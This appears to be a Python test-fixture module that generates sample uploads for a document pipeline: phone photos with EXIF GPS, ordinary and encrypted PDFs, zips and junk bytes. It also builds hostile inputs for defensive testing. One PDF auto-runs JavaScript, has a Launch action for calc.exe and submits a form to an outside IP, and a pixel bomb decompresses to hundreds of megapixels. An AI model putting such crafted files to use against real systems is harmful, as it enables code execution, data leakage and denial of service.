"""Real papers made by code: photos as a phone takes them, PDFs good and bad, and broken files."""

import functools
import io
import random
import zipfile

import img2pdf
import pikepdf
from PIL import ExifTags, Image, ImageChops, ImageDraw, ImageFilter, ImageFont, TiffImagePlugin

PAYSLIP = (
    "Musterbau GmbH · Lohnabrechnung Oktober 2026",
    "Oksana Kovalenko, Personalnummer 4711",
    "",
    "Grundlohn            1.240,00 EUR",
    "Zuschlag Samstag        86,40 EUR",
    "Brutto               1.326,40 EUR",
    "Lohnsteuer             - 0,00 EUR",
    "Sozialversicherung   - 268,10 EUR",
    "Auszahlung           1.058,30 EUR",
)

LINDENAU = (50.5841, 8.6784)


def sheet(lines: tuple[str, ...] = PAYSLIP, width: int = 1240, height: int = 1754) -> Image.Image:
    """Draw a page of paper; the words stand at its top, so that one sees which way is up."""
    page = Image.new("RGB", (width, height), "white")
    draw = ImageDraw.Draw(page)
    font = ImageFont.load_default(size=width // 34)
    for number, line in enumerate(lines):
        draw.text((width // 12, height // 14 + number * width // 20), line, "#111", font=font)
    draw.rectangle((0, 0, width, height // 60), fill="#123f8c")  # the coloured head of the letter
    return page


@functools.cache
def phone_photo(*, width: int = 4032, height: int = 3024, orientation: int = 6) -> bytes:
    """Take a photo of a payslip as a phone does: lying sensor, EXIF orientation, place, noise."""
    upright = Image.new("RGB", (height, width), "#5b4636")  # a table
    paper = sheet(width=int(height * 0.86), height=int(width * 0.9))
    upright.paste(paper, (int(height * 0.07), int(width * 0.05)))
    grain = Image.effect_noise((height // 4, width // 4), 24).resize((height, width))
    noisy = ImageChops.add(upright, Image.merge("RGB", [grain] * 3), scale=1.0, offset=-128)
    taken = noisy.filter(ImageFilter.GaussianBlur(0.6))
    if orientation == 6:  # the sensor saw it turned a quarter to the left
        taken = taken.transpose(Image.Transpose.ROTATE_90)
    written = io.BytesIO()
    taken.save(written, "JPEG", quality=86, exif=_exif(orientation))
    return written.getvalue()


def _exif(orientation: int) -> Image.Exif:
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = orientation
    exif[ExifTags.Base.Make] = "Kamerawerk"
    exif[ExifTags.Base.Model] = "Telefon 8"
    exif[ExifTags.Base.DateTime] = "2026:11:20 18:02:11"
    latitude, longitude = LINDENAU
    exif.get_ifd(ExifTags.IFD.GPSInfo).update(
        {
            ExifTags.GPS.GPSLatitudeRef: "N",
            ExifTags.GPS.GPSLatitude: _degrees(latitude),
            ExifTags.GPS.GPSLongitudeRef: "E",
            ExifTags.GPS.GPSLongitude: _degrees(longitude),
        }
    )
    return exif


def _degrees(value: float) -> tuple[TiffImagePlugin.IFDRational, ...]:
    minutes = value % 1 * 60
    return tuple(
        TiffImagePlugin.IFDRational(round(part * 100), 100)
        for part in (int(value), int(minutes), minutes % 1 * 60)
    )


def picture(
    format: str = "JPEG", *, width: int = 800, height: int = 600, **options: object
) -> bytes:
    """Draw a small picture in any format that Pillow writes."""
    written = io.BytesIO()
    sheet(width=width, height=height).save(written, format, **options)
    return written.getvalue()


def pdf(pages: int = 1) -> bytes:
    """Print a paper of some pages."""
    drawn = [picture(width=620, height=877) for _ in range(pages)]
    return bytes(img2pdf.convert(drawn))


def pdf_that_acts() -> bytes:
    """Make a PDF that tries everything: scripts, launching, enclosed files, XFA, GPS."""
    written = io.BytesIO()
    made = pikepdf.open(
        io.BytesIO(img2pdf.convert(phone_photo(width=800, height=600, orientation=1)))
    )
    with made as paper:
        script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert('Hallo')")
        launch = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="calc.exe")
        submit = pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F="http://198.51.100.7/")
        page = paper.pages[0].obj
        page.AA = pikepdf.Dictionary(O=script)
        field = paper.make_indirect(_annotation("/Widget", AA=pikepdf.Dictionary(K=script)))
        page.Annots = pikepdf.Array(
            [
                paper.make_indirect(_annotation("/Link", A=launch)),
                paper.make_indirect(_annotation("/Link", A=submit)),
                paper.make_indirect(_annotation("/FileAttachment")),
                field,
            ]
        )
        paper.attachments["rechnung.xml"] = b"<rechnung>ENCLOSED-CANARY</rechnung>"
        root = paper.Root
        root.OpenAction = script
        root.Names.JavaScript = pikepdf.Dictionary(
            Names=pikepdf.Array(["start", paper.make_indirect(script)])
        )
        root.AcroForm = pikepdf.Dictionary(
            Fields=pikepdf.Array([field]), XFA=paper.make_stream(b"<xdp>XFA-CANARY</xdp>")
        )
        paper.docinfo["/Author"] = "Oksana Kovalenko"
        paper.save(written)
    return written.getvalue()


def _annotation(kind: str, **more: object) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(
        Type=pikepdf.Name.Annot,
        Subtype=pikepdf.Name(kind),
        Rect=pikepdf.Array([10, 10, 90, 40]),
        **more,
    )


def encrypted_pdf(*, owner_only: bool = False) -> bytes:
    """Protect a PDF: with a password to open it, or only against changes as payslips often are."""
    written = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf())) as paper:
        user = "" if owner_only else "geheim"
        paper.save(written, encryption=pikepdf.Encryption(owner="chef", user=user))
    return written.getvalue()


def pdf_of_empty_pages(pages: int) -> bytes:
    """Make a PDF of many pages that is only a few kilobytes."""
    written = io.BytesIO()
    with pikepdf.new() as paper:
        for _ in range(pages):
            paper.add_blank_page(page_size=(595, 842))
        paper.save(written)
    return written.getvalue()


def pixel_bomb(side: int = 20_000) -> bytes:
    """Make a picture of a few kilobytes that unpacks to hundreds of megapixels."""
    written = io.BytesIO()
    Image.new("1", (side, side)).save(written, "PNG", compress_level=9)
    return written.getvalue()


def zipped(name: str = "text.txt", content: bytes = b"Hallo") -> bytes:
    """Make a zip archive."""
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w") as archive:
        archive.writestr(name, content)
    return written.getvalue()


def docx() -> bytes:
    """Make what a word processor would write, near enough."""
    return zipped("[Content_Types].xml", b"<Types/>")


def garbage(size: int = 5000) -> bytes:
    """Make bytes that are nothing."""
    return random.Random(7).randbytes(size)
